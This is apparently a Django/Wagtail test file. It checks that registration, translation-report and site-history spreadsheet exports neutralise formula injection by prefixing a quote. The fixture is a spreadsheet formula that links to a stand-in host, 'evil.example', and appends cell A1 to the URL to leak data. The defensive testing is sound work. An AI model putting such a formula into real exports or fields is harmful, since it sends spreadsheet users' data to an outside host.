"""Spreadsheet exports neutralise formulas: a registration named `=HYPERLINK(…)` is text in the
registrations export (CSV and XLSX), the translation report and Wagtail's own reports."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from wagtail_localize.models import TranslationSource

from eventpages.factories import RegistrationFactory
from glokal.models import StandardPage
from glokal.spreadsheets import neutralise_formula

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Click")'


@pytest.fixture
def staff(django_user_model):
    return django_user_model.objects.create_superuser("staff", "staff@example.org", "pw")


def read_csv(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert neutralise_formula(start + "1+1") == "'" + start + "1+1"
    assert neutralise_formula("Anna") == "Anna"
    assert neutralise_formula(-5) == -5


def test_registration_export_neutralises_formulas(client, staff, event):
    RegistrationFactory(event=event, name=FORMULA, organisation_name="+49 351 1234")
    client.force_login(staff)
    url = reverse("eventpages_registration_modeladmin_index")

    rows = read_csv(client.get(url, {"export": "csv"}))
    assert rows[1][2] == "'" + FORMULA
    assert rows[1][4] == "'+49 351 1234"

    response = client.get(url, {"export": "xlsx"})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    cells = [cell.value for cell in sheet[2]]
    assert "'" + FORMULA in cells
    assert not any(isinstance(value, str) and value.startswith("=") for value in cells)


def test_translation_report_csv_neutralises_formulas(client, staff, home_pages):
    page = home_pages["de"].add_child(instance=StandardPage(title=FORMULA, slug="formel"))
    TranslationSource.get_or_create_from_instance(page)
    client.force_login(staff)
    rows = read_csv(client.get(reverse("localisation_status"), {"format": "csv"}))
    titles = {row[0] for row in rows[1:]}
    assert "'" + FORMULA in titles
    assert FORMULA not in titles


def test_wagtail_report_export_neutralises_formulas(client, staff, home_pages):
    page = home_pages["de"].add_child(instance=StandardPage(title=FORMULA, slug="formel"))
    page.save_revision(user=staff, log_action=True).publish(user=staff)
    client.force_login(staff)
    rows = read_csv(client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"}))
    cells = {cell for row in rows[1:] for cell in row}
    assert any(cell.startswith("'" + FORMULA) for cell in cells), rows[:3]
    assert not any(cell.startswith("=") for cell in cells)
